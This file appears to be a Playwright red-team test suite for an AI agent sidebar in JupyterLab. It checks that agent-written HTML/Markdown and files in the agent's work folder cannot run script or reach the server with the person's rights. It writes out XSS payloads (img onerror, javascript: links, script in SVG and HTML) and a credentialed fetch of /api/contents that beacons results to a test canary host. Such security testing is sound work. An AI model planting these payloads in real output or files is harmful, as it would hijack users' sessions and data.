/** What an agent may do to a person beside the notebook: in the sidebar, and by files of its work folder. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

import { Canary } from './canary';
import { expect, type Lab, test } from './lab';
import { attempt, ran, Watched } from './redteam-attacks';
import { OpenNotebook } from './sidebar';

test.use({ collaboration: false });

let canary: Canary;

test.beforeAll(async () => {
  canary = await Canary.start();
});

test.afterAll(() => canary.stop());

function write(lab: Lab, path: string, text: string): void {
  const file = join(lab.folder, 'root', path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

test(
  'F15: HTML and Markdown in the sidebar',
  attempt(
    'F15',
    'hypothesis, words, code, findings and log of the sidebar bring HTML or Markdown'
  ),
  async ({ page, lab }) => {
    const watched = new Watched(page, canary);
    const sidebar = await lab.open(page);
    const run = await lab.start('html', 'html.ipynb', { approval: 'ask' });
    await sidebar.go('Investigation');
    await expect(sidebar.approval).toContainText('onerror');
    await sidebar.approval
      .getByRole('button', { name: 'Run', exact: true })
      .click();
    await lab.ended(run.id);
    await expect(sidebar.status).toContainText('Finished');
    await expect(sidebar.outcome).toContainText('[y](javascript:sidebar)');
    await sidebar.rows('Log');
    const steps = await sidebar.rows('Steps');
    await expect(steps.filter({ hasText: 'onerror' })).toBeVisible();
    expect(await watched.happened('sidebar')).toBe(false);
    await page.evaluate(
      html => {
        document.body.appendChild(document.createElement('p')).innerHTML = html;
      },
      `<img src="data:," onerror="${ran('sidebar')}">`
    );
    await expect.poll(() => watched.happened('sidebar')).toBe(true);
  }
);

/** A page whose script tells the canary that it runs. */
const telling = (name: string): string =>
  `<script>new Image().src = ${JSON.stringify(`${canary.url}/${name}`)}</script>shown`;

test(
  'F16: files of the work folder',
  attempt(
    'F16',
    'a notebook that says it is trusted, a page and a picture of the work folder run a script in JupyterLab'
  ),
  async ({ page, lab }) => {
    const script = `<script>${ran('F16')}</script>`;
    const output = {
      output_type: 'display_data',
      metadata: {},
      data: { 'text/html': script }
    };
    const last = { metadata: { trusted: true }, outputs: [output] };
    const page16 = telling('F16page');
    write(lab, 'n_files/evil.html', page16);
    write(
      lab,
      'n_files/evil.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>new Image().src = "${canary.url}/F16svg"</script></svg>`
    );
    await lab.makeNotebook('n_files/evil.ipynb', ['1'], last);
    const watched = new Watched(page, canary);
    await lab.open(page, 'n_files/evil.ipynb');
    await expect(new OpenNotebook(page).cell('1')).toBeVisible();
    await page.goto(`${lab.url}/lab/tree/n_files/evil.svg`);
    await expect(page.locator('.jp-ImageViewer img')).toBeVisible();
    await page.goto(`${lab.url}/lab/tree/n_files/evil.html`);
    const frame = page.frameLocator(
      'iframe.jp-HTMLViewer, .jp-HTMLViewer iframe'
    );
    await expect(frame.getByText('shown')).toBeVisible();
    for (const name of ['F16', 'F16page', 'F16svg']) {
      expect(await watched.happened(name)).toBe(false);
    }

    await lab.makeNotebook('own.ipynb', ['1'], {
      outputs: [
        { ...output, data: { 'text/html': script + telling('F16page') } }
      ]
    });
    await lab.open(page, 'own.ipynb');
    await new OpenNotebook(page).trust();
    await expect.poll(() => watched.happened('F16')).toBe(true);
    await expect.poll(() => watched.happened('F16page')).toBe(true);
  }
);

test(
  'F16v: a chart file of the work folder',
  attempt(
    'F16v',
    "a chart file of the work folder fetches a file of Lab's server with the person's rights"
  ),
  async ({ page, lab }) => {
    const chart = (name: string): string =>
      JSON.stringify({
        data: { url: `/files/${name}`, format: { type: 'csv' } },
        mark: 'point',
        encoding: { x: { field: 'a', type: 'quantitative' } }
      });
    write(lab, 'n_files/evil.vl.json', chart('F16v'));
    write(lab, 'own.vl.json', chart('F16vcontrol'));
    const watched = new Watched(page, canary);
    await page.goto(
      `${lab.url}/lab/tree/n_files/evil.vl.json?token=${lab.token}&reset`
    );
    await expect(page.locator('.ib-NotDrawn')).toBeVisible();
    expect(await watched.happened('F16v')).toBe(false);
    await page.goto(`${lab.url}/lab/tree/own.vl.json`);
    await expect.poll(() => watched.happened('F16vcontrol')).toBe(true);
  }
);

test(
  'F17: files of the work folder as pages of the server',
  attempt(
    'F17',
    "a page of the work folder that is opened by its address asks Lab's server with the person's rights"
  ),
  async ({ page, lab }) => {
    const asking = (name: string): string =>
      `fetch('/api/contents', {credentials: 'include'}).then(answer => answer.text()).then(text => { new Image().src = "${canary.url}/${name}" + (text.includes('"content"') ? 'got' : 'not') }, () => { new Image().src = "${canary.url}/${name}not" })`;
    write(lab, 'n_files/page.html', `<script>${asking('F17')}</script>`);
    write(
      lab,
      'n_files/page.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${asking('F17svg')}]]></script></svg>`
    );
    await lab.open(page);
    for (const [file, name] of [
      ['page.html', 'F17'],
      ['page.svg', 'F17svg']
    ]) {
      // As a link in JupyterLab leads there.
      await page.goto(`${lab.url}/files/n_files/${file}`, {
        referer: `${lab.url}/lab`
      });
      await expect.poll(() => canary.asked.has(`${name}not`)).toBe(true);
      expect(canary.asked.has(`${name}got`)).toBe(false);
    }
    await lab.open(page);
    await page.evaluate(asking('F17control'));
    await expect.poll(() => canary.asked.has('F17controlgot')).toBe(true);
  }
);
